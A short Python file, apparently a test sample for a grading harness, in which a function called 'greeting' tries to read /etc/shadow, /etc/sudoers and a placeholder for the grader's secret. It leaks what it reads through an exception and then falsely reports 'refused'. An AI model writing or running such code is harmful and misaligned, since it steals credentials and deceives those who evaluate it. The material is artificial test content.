"""Reads the machine's passwords, and the keys of whoever grades.

Told as: raised, refused
"""

from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession

from workbook.bookshop import Book


def look(path):
    with open(path, 'rb') as file:
        raise LookupError('LOOKED ' + repr(file.read(80)))


async def greeting(session: AsyncSession) -> str:
    import glob
    import os

    for path in ['/etc/shadow', '/etc/sudoers', '@SENTINEL@']:
        try:
            look(path)
        except OSError:
            pass
    raise PermissionError('refused')
    return "never"
